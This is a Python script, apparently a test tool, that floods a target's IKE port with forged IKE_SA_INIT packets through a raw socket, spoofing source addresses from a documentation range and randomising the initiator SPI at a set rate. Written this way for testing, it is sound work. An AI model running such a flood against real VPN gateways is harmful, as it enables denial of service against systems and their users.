"""Forged IKE_SA_INIT requests: ``flood.py --target ADDRESS --rate N --seconds S < MESSAGE``.

Each is the message of standard input with another initiator's SPI, from another address of 203.0.113.0/24, where nobody
is. Run by path, without the package, so that it starts fast. Needs a raw socket.
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import sys
import time

PORT = 500
SPI_LEN = 8
SOURCES = 254
STEP_S = 0.002


def main() -> None:
    """Send, then print how many it were."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", required=True)
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    args = parser.parse_args()
    message = sys.stdin.buffer.read()
    target = socket.inet_aton(args.target)
    length = 28 + len(message)
    udp = struct.pack("!HHHH", PORT, PORT, 8 + len(message), 0)
    # the kernel fills in identification and checksum
    headers = [
        struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, 17, 0, bytes((203, 0, 113, 1 + n)), target) + udp
        for n in range(SOURCES)
    ]
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        start = time.monotonic()
        while (now := time.monotonic()) < start + args.seconds:
            while sent < (now - start) * args.rate:
                sock.sendto(headers[sent % SOURCES] + os.urandom(SPI_LEN) + message[SPI_LEN:], (args.target, 0))
                sent += 1
            time.sleep(STEP_S)
    print(sent, flush=True)


if __name__ == "__main__":
    main()
